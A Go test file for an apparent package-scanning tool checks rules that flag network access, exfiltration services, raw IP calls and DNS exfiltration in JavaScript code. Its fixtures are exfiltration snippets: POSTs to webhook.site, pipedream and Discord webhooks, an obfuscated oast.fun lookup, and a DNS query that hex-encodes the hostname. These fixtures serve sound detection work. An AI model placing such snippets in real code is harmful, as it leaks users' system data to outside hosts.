package net

import (
	"testing"

	"github.com/depfence/depfence/internal/finding"
	rt "github.com/depfence/depfence/internal/rules/rulestest"
)

func TestNetworkAccess(t *testing.T) {
	rt.Check(t, NetworkAccess{}, []rt.Case{
		{"https_request", map[string]string{"index.js": `require("https").request({hostname: "api.example.com"})`}, finding.SeverityLow},
		{"no_network", map[string]string{"index.js": `require("path").join("a", "b")`}, finding.SeverityNone},
	})
}

func TestExfilService(t *testing.T) {
	rt.Check(t, ExfilService{}, []rt.Case{
		{"pipedream", map[string]string{"index.js": `https.request({ hostname: "abc.m.pipedream.net", method: "POST" })`}, finding.SeverityHigh},
		{"oast_concat", map[string]string{"index.js": `const h = "x1" + ".oast" + ".fun"; dns.lookup(h)`}, finding.SeverityHigh},
		{"discord_webhook", map[string]string{"index.js": `fetch("https://discord.com/api/webhooks/1/abc", {method:"POST"})`}, finding.SeverityHigh},
		{"webhook_client", map[string]string{"index.js": `const { WebhookClient } = require("discord.js"); new WebhookClient("123", "tok")`}, finding.SeverityHigh},
		{"bare_host_option", map[string]string{"index.js": `require("https").request({ hostname: "webhook.site", path: "/0c9f", method: "POST" })`}, finding.SeverityHigh},
		{"bare_host_in_domain_list", map[string]string{"index.js": `const blocked = ["webhook.site", "pipedream.net"]`}, finding.SeverityNone},
		{"lookalike_word", map[string]string{"index.js": `const doc = "see https://example.com/webhook.site-guide"; const p = "notpipedream.network"`}, finding.SeverityNone},
	})
}

func TestRawIP(t *testing.T) {
	rt.Check(t, RawIP{}, []rt.Case{
		{"public_ip", map[string]string{"index.js": `http.get("http://203.0.113.7:1224/p")`}, finding.SeverityMedium},
		{"localhost", map[string]string{"index.js": `http.get("http://127.0.0.1:8080/health"); fetch("http://192.168.1.1/")`}, finding.SeverityNone},
		{"version_string", map[string]string{"index.js": `const v = "1.2.3.4"`}, finding.SeverityNone},
	})
}

func TestDNSExfil(t *testing.T) {
	rt.Check(t, DNSExfil{}, []rt.Case{
		{"hex_labels", map[string]string{"index.js": "const dns=require('dns'),os=require('os');const h=Buffer.from(os.hostname()).toString('hex');dns.resolve4(`${h}.x.example.invalid`,()=>{})"}, finding.SeverityCritical},
		{"own_address", map[string]string{"index.js": "const dns=require('dns'),os=require('os');dns.lookup(os.hostname(),(e,a)=>console.log(a))"}, finding.SeverityNone},
	})
}
